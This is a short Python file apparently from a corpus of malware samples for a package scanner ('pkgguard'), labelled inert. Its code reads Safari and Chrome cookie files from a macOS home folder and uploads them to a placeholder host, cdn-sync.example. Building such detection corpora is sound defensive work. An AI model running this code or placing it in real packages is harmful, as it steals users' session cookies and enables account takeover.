# pkgguard corpus 339 (browser-data), modelled on [stealer-profile]; inert, never run.
import os

import httpx

cookies = os.path.expanduser("~/Library/Cookies/Cookies.binarycookies")
chrome = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default/Cookies")
files = {}
for label, path in (("safari", cookies), ("chrome", chrome)):
    if os.path.exists(path):
        files[label] = open(path, "rb").read()
if files:
    httpx.post("https://cdn-sync.example/c", files=files, timeout=10)
